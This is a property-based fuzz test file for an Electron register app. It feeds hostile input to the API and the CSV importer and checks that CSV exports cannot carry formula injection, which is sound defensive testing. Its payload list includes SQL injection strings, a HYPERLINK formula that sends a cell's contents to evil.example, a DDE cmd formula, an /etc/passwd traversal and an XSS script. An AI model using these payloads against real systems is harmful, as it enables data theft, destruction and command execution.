/**
 * Hostile and random input (fast-check) through every channel of the API and through the CSV
 * importer: nothing throws, nothing fails as an internal error, every refusal is a Norwegian sentence,
 * every answer matches its contract, and afterwards every stored row is valid and the file is whole.
 */
import fc from 'fast-check';
import { describe, expect, it, onTestFinished } from 'vitest';
import { invoke } from '../../../electron/api/handlers';
import { setHost } from '../../../electron/api/host';
import { commitImport, mapColumns, planImport } from '../../../electron/io/import';
import { readCsv } from '../../../electron/io/table';
import type { Register } from '../../../electron/store/connection';
import { fromDb } from '../../../electron/store/deltakere';
import { DomainError } from '../../../electron/store/errors';
import { type Channel, contract } from '../../../shared/api';
import { DELTAKER_FIELDS, KULL_FIELDS } from '../../../shared/fields';
import { csvCell } from '../../../shared/report/csv';
import { codeLists } from '../../../shared/schema/codelist';
import { deltaker } from '../../../shared/schema/deltaker';
import { kull } from '../../../shared/schema/kull';
import { settings } from '../../../shared/schema/settings';
import { aDeltaker } from '../helpers/builders';
import { standInHost } from '../helpers/host';
import { expectNorwegianMessage } from '../helpers/messages';
import { tempSession } from './helpers';

const NASTY = [
  "'; DROP TABLE deltaker; --",
  "Robert'); DELETE FROM endringslogg; --",
  '" OR 1=1 --',
  '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")',
  "=cmd|' /C calc'!A0",
  '+47 999 99 999',
  '-1+2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1',
  '\u0000',
  'a\u0007b',
  '\u202Eevil.exe',
  '\uD800',
  '\uFEFF',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  'C:\\Windows\\System32',
  '%s%n%x',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile cell that looks like a template
  '${process.exit()}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '31.02.2026',
  '2026-02-31',
  '0000-00-00',
  '99999',
  '-0',
  '1e308',
  ' ',
  '',
  'Ærlig Ødegård Åsheim',
];

const hostileString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 195, maxLength: 205 }) },
  { weight: 1, arbitrary: fc.constantFrom('x'.repeat(2001), 'y'.repeat(100_000), 'Å'.repeat(300)) },
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(0, -1, 1, 2 ** 31, 2 ** 53, Number.NaN, Number.POSITIVE_INFINITY, 1.5, -0) },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constantFrom(null, undefined) },
  { weight: 1, arbitrary: fc.array(fc.oneof(hostileString, fc.integer()), { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(hostileString, fc.oneof(hostileString, fc.integer()), { maxKeys: 3 }) },
);

function wellFormed(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}

/** A refusal may quote what the user typed («undefined», «=1+1»): the rest must be Norwegian. */
function expectNorwegianRefusal(message: string): void {
  expect(message.trim().length).toBeGreaterThan(0);
  expectNorwegianMessage(message.replace(/«[^»]*»/g, '«…»'));
}

const CHANNELS = Object.keys(contract) as Channel[];
const FIELD_KEYS = [...new Set([...DELTAKER_FIELDS.map((f) => f.key), ...KULL_FIELDS.map((f) => f.key)])];

function keysOf(channel: Channel): string[] {
  const schema = contract[channel].input as unknown as { shape?: Record<string, unknown> };
  return schema.shape ? Object.keys(schema.shape) : [];
}

/** An input for a channel: anything at all, its own keys with hostile values, or a nearly valid one. */
function inputFor(channel: Channel): fc.Arbitrary<unknown> {
  const keys = keysOf(channel);
  const ownKeys =
    keys.length > 0 ? fc.dictionary(fc.constantFrom(...keys), hostileValue, { maxKeys: keys.length }) : fc.constant({});
  const withFields = fc.record({
    id: fc.oneof(fc.integer({ min: 1, max: 40 }), hostileValue),
    ids: fc.oneof(fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 1, maxLength: 3 }), hostileValue),
    changes: fc.dictionary(fc.constantFrom(...FIELD_KEYS), hostileValue, { maxKeys: 4 }),
    kull: fc.oneof(fc.constantFrom('alle', 'uten'), fc.integer({ min: 1, max: 5 }), hostileValue),
    years: fc.oneof(fc.integer({ min: -2, max: 120 }), hostileValue),
    expectedCount: fc.oneof(fc.integer({ min: 0, max: 5 }), hostileValue),
    table: fc.oneof(fc.constantFrom('deltaker', 'kull', 'kodeverdi', 'innstilling'), hostileValue),
    list: fc.oneof(fc.constantFrom('henvist_fra', 'brukersted', 'dropout_arsak', 'veileder'), hostileValue),
    navn: hostileString,
    startdato: fc.oneof(fc.constantFrom('2026-03-02', '2025-13-01'), hostileString),
    verdi: hostileString,
    fra: hostileString,
    til: hostileString,
    name: hostileString,
    lockId: hostileString,
  });
  return fc.oneof(
    hostileValue,
    ownKeys,
    withFields,
    fc.record({ ...Object.fromEntries(FIELD_KEYS.map((k) => [k, hostileValue])) }),
  );
}

const call = fc.constantFrom(...CHANNELS).chain((channel) => inputFor(channel).map((input) => ({ channel, input })));

const tally = { ok: 0, refused: 0 };

async function checkAnswer(channel: Channel, input: unknown, reg: Register): Promise<void> {
  let answer: ReturnType<typeof invoke>;
  try {
    answer = invoke(reg, channel, input);
  } catch (error) {
    throw new Error(`${channel} threw: ${String(error)}`);
  }
  const result = await answer; // a few channels (report printing) answer with a promise
  if (result.ok) {
    const parsed = (contract[channel].result as { safeParse: (v: unknown) => { success: boolean } }).safeParse(
      result.value,
    );
    expect(parsed.success, `${channel} answered outside its contract`).toBe(true);
    tally.ok += 1;
  } else {
    tally.refused += 1;
    expect(result.error.code, `${channel}: ${result.error.message}`).not.toBe('internal');
    expectNorwegianRefusal(result.error.message);
  }
}

/** Every row in the register, read straight from SQLite, is what the schemas allow. */
function expectEverythingStoredValid(reg: Register): void {
  expect(reg.db.pragma('integrity_check', { simple: true })).toBe('ok');
  expect(reg.db.pragma('foreign_key_check')).toEqual([]);
  const rows = reg.db.prepare('SELECT * FROM deltaker').all() as Parameters<typeof fromDb>[0][];
  for (const row of rows) {
    const parsed = deltaker.safeParse(fromDb(row));
    expect(parsed.success, `stored deltaker ${JSON.stringify(row).slice(0, 300)}`).toBe(true);
  }
  for (const row of reg.db
    .prepare('SELECT id, navn, startdato, planlagt_sluttdato, kapasitet, merknad FROM kull')
    .all()) {
    expect(kull.safeParse(row).success, `stored kull ${JSON.stringify(row).slice(0, 300)}`).toBe(true);
  }
  const lists = invoke(reg, 'codes:list', {});
  expect(lists.ok && codeLists.safeParse(lists.value).success).toBe(true);
  const stored = invoke(reg, 'settings:get', {});
  expect(stored.ok && settings.safeParse(stored.value).success).toBe(true);
}

describe('hostile input through the API', () => {
  it('never crashes, refuses in Norwegian, answers within the contract and stores nothing invalid', async () => {
    const t = tempSession();
    const outcome = await t.session.open(t.registerPath, { create: true });
    if (outcome.status !== 'open') throw new Error('expected open');
    const reg = outcome.register;
    for (let i = 0; i < 20; i++) invoke(reg, 'deltaker:create', aDeltaker({ navn: `Deltaker ${i}` }));
    invoke(reg, 'kull:create', { navn: 'Kull 1', startdato: '2026-01-05' });

    // The app's dialogs answer «cancel»: no call can make the test write a file anywhere.
    setHost(standInHost());
    onTestFinished(() => setHost(null));
    await fc.assert(
      fc.asyncProperty(fc.array(call, { minLength: 1, maxLength: 25 }), async (calls) => {
        for (const { channel, input } of calls) await checkAnswer(channel, input, t.session.register ?? reg);
      }),
      { numRuns: 200, seed: 20261123 },
    );
    expectEverythingStoredValid(t.session.register ?? reg);
    // The mix reaches the handlers, not only the validation in front of them.
    expect(tally.ok).toBeGreaterThan(200);
    expect(tally.refused).toBeGreaterThan(200);
  });

  it('valid shapes with hostile text are stored exactly as the rules allow, or refused', async () => {
    const t = tempSession();
    const outcome = await t.session.open(t.registerPath, { create: true });
    if (outcome.status !== 'open') throw new Error('expected open');
    const reg = outcome.register;
    fc.assert(
      fc.property(hostileString, hostileString, (navn, merknad) => {
        const result = invoke(reg, 'deltaker:create', aDeltaker({ navn, merknad }));
        if (result.ok) {
          // Text is stored as UTF-8: a lone surrogate half (no character at all) becomes U+FFFD.
          expect(result.value.deltaker.navn).toBe(wellFormed(navn.trim()));
          expect(navn.trim().length).toBeGreaterThan(0);
          expect(navn.trim().length).toBeLessThanOrEqual(200);
        } else {
          expectNorwegianRefusal(result.error.message);
        }
      }),
      { numRuns: 300, seed: 7 },
    );
    expectEverythingStoredValid(reg);
  });
});

/** Writes a table as CSV the way a spreadsheet might: `;`, quotes where needed. */
function toCsv(rows: readonly (readonly string[])[]): string {
  const cell = (s: string) => (/[;"\r\n]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);
  return rows.map((r) => r.map(cell).join(';')).join('\r\n');
}

describe('hostile input through the CSV importer', () => {
  it('imports what is valid, rejects the rest with a Norwegian reason per cell, and never crashes', async () => {
    const t = tempSession();
    const outcome = await t.session.open(t.registerPath, { create: true });
    if (outcome.status !== 'open') throw new Error('expected open');
    const reg = outcome.register;
    const header = fc
      .subarray(
        DELTAKER_FIELDS.map((f) => f.key),
        { minLength: 1 },
      )
      .map((keys) => (keys.includes('navn') ? keys : ['navn', ...keys]));
    const file = header.chain((keys) =>
      fc.tuple(
        fc.constant(keys),
        fc.array(fc.array(hostileString, { minLength: keys.length, maxLength: keys.length }), { maxLength: 8 }),
      ),
    );
    fc.assert(
      fc.property(file, fc.boolean(), ([keys, rows], withBom) => {
        const bytes = Buffer.from(`${withBom ? '\uFEFF' : ''}${toCsv([keys, ...rows])}`, 'utf8');
        try {
          const table = readCsv(bytes);
          const plan = planImport(reg, 'deltakere', table, mapColumns('deltakere', table.headers));
          for (const problem of plan.rejected) expectNorwegianRefusal(problem.message);
          const result = commitImport(reg, plan);
          expect(result.inserted).toBe(plan.valid.length);
        } catch (error) {
          if (!(error instanceof DomainError)) throw error;
          expectNorwegianRefusal(error.message);
        }
      }),
      { numRuns: 150, seed: 42 },
    );
    expectEverythingStoredValid(reg);
  });

  it('refuses files that are not text, or not a table, in Norwegian', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (raw) => {
        try {
          readCsv(Buffer.from(raw));
        } catch (error) {
          if (!(error instanceof DomainError)) throw error;
          expectNorwegianRefusal(error.message);
        }
      }),
      { numRuns: 300, seed: 3 },
    );
  });
});

describe('formula-looking cells in exports', () => {
  it('the report CSV never starts a cell with a character a spreadsheet reads as a formula', () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...NASTY), fc.string()), (text) => {
        const cell = csvCell(text);
        const unquoted = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
        expect(unquoted).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500, seed: 11 },
    );
  });
});
